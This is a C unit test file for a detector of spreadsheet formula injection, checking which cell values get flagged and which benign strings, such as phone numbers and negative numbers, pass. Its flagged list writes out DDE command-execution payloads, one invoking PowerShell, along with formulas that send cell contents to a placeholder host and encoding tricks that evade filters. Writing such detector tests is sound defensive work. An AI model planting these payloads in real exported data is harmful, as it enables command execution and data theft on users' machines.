/* SPDX-License-Identifier: Apache-2.0 */
/* test_formula.c - cells that a spreadsheet executes, and those that only look like it. */
#include "../../test.h"
#include "detect/data/look.h"

static void active(void **state)
{
    (void)state;
    static const struct {
        const char *cell;
        enum severity severity;
    } bad[] = {
        {"=cmd|' /C calc'!A0", SEV_HIGH},
        {"+cmd|'/c powershell IEX(1)'!A1", SEV_HIGH},
        {"-2+3+cmd|' /C calc'!D2", SEV_HIGH},
        {"@SUM(1+1)*cmd|' /C calc'!A0", SEV_HIGH},
        {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", SEV_HIGH},
        {"=WEBSERVICE(\"http://x.example/\"&A1)", SEV_HIGH},
        {"=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", SEV_HIGH},
        {"+HYPERLINK(\"http://x.example\")", SEV_HIGH},
        {"=DDE(\"cmd\",\"/C calc\",\"x\")", SEV_HIGH},
        {"='[other.xlsx]Sheet1'!A1", SEV_HIGH},
        {"\t=HYPERLINK(\"http://x.example\")", SEV_HIGH},
        {"\r=cmd|'x'!A0", SEV_HIGH},
        {"\xef\xbc\x9d"
         "cmd|' /C calc'!A0",
         SEV_HIGH},
        {"@SUM(1+1)", SEV_MEDIUM},
        {"=SUM(A1:A9)", SEV_MEDIUM},
        {"=1+1", SEV_MEDIUM},
        {"+1+1", SEV_MEDIUM},
        {"-2+3", SEV_MEDIUM},
        {"=A1", SEV_MEDIUM},
        {"=$B$2*3", SEV_MEDIUM},
        {"=-SUM(A1)", SEV_MEDIUM},
    };
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        struct look_note note = {0};
        if (!formula_cell(slice_str(bad[i].cell), &note)) fail_msg("%s: silent", bad[i].cell);
        if (note.severity != bad[i].severity) fail_msg("%s: %d", bad[i].cell, (int)note.severity);
        assert_string_equal(note.rule, "data.formula");
        assert_true(note.message && note.evidence.n);
    }
}

static void honest(void **state)
{
    (void)state;
    static const char *const good[] = {
        "-5",
        "+5",
        "-5.25",
        "-1e-5",
        "+49 170 1234567",
        "+49-170-1234567",
        "+1 (555) 010-0000",
        "=",
        "==",
        "=== title",
        "@user",
        "@user hello (and others)",
        "- item",
        "- item (remark)",
        "-",
        "+",
        "--",
        "-- a comment",
        "-x",
        "+1",
        "@",
        "=)",
        "=> see below",
        "-2020-01-02",
        "-1/2",
        "+1-800-555-0100",
        "@media (max-width: 3px)",
        "@Override",
        "-rw-r--r--",
        "--help",
        "+/-",
        "- first\n- second",
        "A=SUM(1)",
        "",
        " ",
        "-inf",
        "+ plus (much)",
        "@home(work)",
        "-webkit-box",
        "=?utf-8?Q?x?=",
        "-5 to -3",
        "-10:30",
        "+33 1 23 45 67 89",
        "@a.b/c",
    };
    for (size_t i = 0; i < sizeof good / sizeof *good; i++) {
        struct look_note note = {0};
        if (formula_cell(slice_str(good[i]), &note)) fail_msg("%s: %s", good[i], note.message);
    }
}

static void cut_anywhere(void **state)
{
    (void)state;
    static const char cell[] = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")+cmd|' /C calc'!A0";
    for (size_t n = 0; n < sizeof cell; n++) {
        struct look_note note = {0};
        char copy[sizeof cell];
        memcpy(copy, cell, sizeof cell);
        (void)formula_cell(slice_of(copy, n), &note);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(active),
        cmocka_unit_test(honest),
        cmocka_unit_test(cut_anywhere),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
